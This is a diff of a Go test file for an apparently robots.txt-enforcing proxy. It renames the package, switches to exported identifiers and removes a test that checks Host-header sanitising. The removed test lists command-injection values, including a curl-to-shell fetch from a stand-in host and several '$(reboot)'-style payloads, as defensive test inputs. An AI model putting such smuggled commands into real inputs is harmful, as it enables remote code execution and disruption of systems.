@@ -1,12 +1,9 @@
-package proxy
+package answer
 
 import (
-	"context"
 	"encoding/json"
 	"fmt"
-	"net"
 	"net/http"
-	"net/http/httptest"
 	"regexp"
 	"strings"
 	"testing"
@@ -56,8 +53,8 @@ func FuzzAnswer(f *testing.F) {
 	f.Add("http://example.com/\x00\xff\u2028", "Allow: /ä<b>&amp;")
 	f.Fuzz(func(t *testing.T, url, rule string) {
 		v := gate.Verdict{URL: url, Agent: "Bot<x>", Judgment: gate.Disallowed, Reason: gate.ByRule, Rule: rule, Line: 7, RobotsURL: url}
-		a := refusal(&v, time.Now())
-		if field := proxyStatus("robotsproxy", a.kind, a.details); !statusField.MatchString(field) {
+		a := Refusal(&v, time.Now())
+		if field := proxyStatus("robotsproxy", a.Kind, a.Details); !statusField.MatchString(field) {
 			t.Errorf("Proxy-Status: %q", field)
 		}
 		_, html := a.render("robotsproxy", asHTML)
@@ -76,50 +73,23 @@ func FuzzAnswer(f *testing.F) {
 func TestRetryAfter(t *testing.T) {
 	now := time.Now()
 	for wait, want := range map[time.Duration]string{0: "1", -time.Hour: "1", 500 * time.Millisecond: "1", 30 * time.Second: "30", 30*time.Second + 1: "31"} {
-		a := refusal(&gate.Verdict{Reason: gate.Unreachable, NextTry: now.Add(wait)}, now)
-		if got := a.header.Get("Retry-After"); got != want {
+		a := Refusal(&gate.Verdict{Reason: gate.Unreachable, NextTry: now.Add(wait)}, now)
+		if got := a.Header.Get("Retry-After"); got != want {
 			t.Errorf("%s: %s, want %s", wait, got, want)
 		}
 	}
-	if got := refusal(&gate.Verdict{Reason: gate.ByRule, NextTry: now.Add(time.Hour)}, now).header.Get("Retry-After"); got != "" {
+	if got := Refusal(&gate.Verdict{Reason: gate.ByRule, NextTry: now.Add(time.Hour)}, now).Header.Get("Retry-After"); got != "" {
 		t.Errorf("a rule's refusal has Retry-After %s", got)
 	}
 }
 
 // What a site can write into an error is a bounded part of the answer.
 func TestDetailsOfFailuresAreBounded(t *testing.T) {
-	a := failure(fmt.Errorf("malformed HTTP response %q", strings.Repeat("\x1b", 1<<20)))
+	a := Failure(fmt.Errorf("malformed HTTP response %q", strings.Repeat("\x1b", 1<<20)))
 	if _, body := a.render("robotsproxy", asText); len(body) > 2*maxDetails {
 		t.Errorf("%d octets: %.100s", len(body), body)
 	}
-	if field := proxyStatus("robotsproxy", a.kind, a.details); !statusField.MatchString(field) || len(field) > 4*maxDetails {
+	if field := proxyStatus("robotsproxy", a.Kind, a.Details); !statusField.MatchString(field) || len(field) > 4*maxDetails {
 		t.Errorf("Proxy-Status: %q", field)
-	}
-}
-
-// The page gives commands to paste: a Host that is more than an address is not in
-// them.
-func TestAddressForTheOwnPage(t *testing.T) {
-	own := &net.TCPAddr{IP: net.IPv4(192, 0, 2, 1), Port: 8080}
-	for host, want := range map[string]string{
-		"proxy.example:3128":             "proxy.example:3128",
-		"PROXY_1.example":                "proxy_1.example:80",
-		"[2001:DB8::1]:8080":             "[2001:db8::1]:8080",
-		"":                               "192.0.2.1:8080",
-		"x;curl$IFS-s$IFS'e.example'|sh": "192.0.2.1:8080",
-		"$(reboot)":                      "192.0.2.1:8080",
-		"`reboot`:1":                     "192.0.2.1:8080",
-		"a&reboot":                       "192.0.2.1:8080",
-		"a%0areboot":                     "192.0.2.1:8080",
-		"a#b":                            "192.0.2.1:8080",
-		"a:1/../$(reboot)":               "192.0.2.1:8080",
-		"user@a":                         "192.0.2.1:8080",
-	} {
-		r := httptest.NewRequest("GET", "/", nil)
-		r.Host = host
-		r = r.WithContext(context.WithValue(r.Context(), http.LocalAddrContextKey, net.Addr(own)))
-		if got := addressFor(r); got != want {
-			t.Errorf("Host %q: %s, want %s", host, got, want)
-		}
 	}
 }
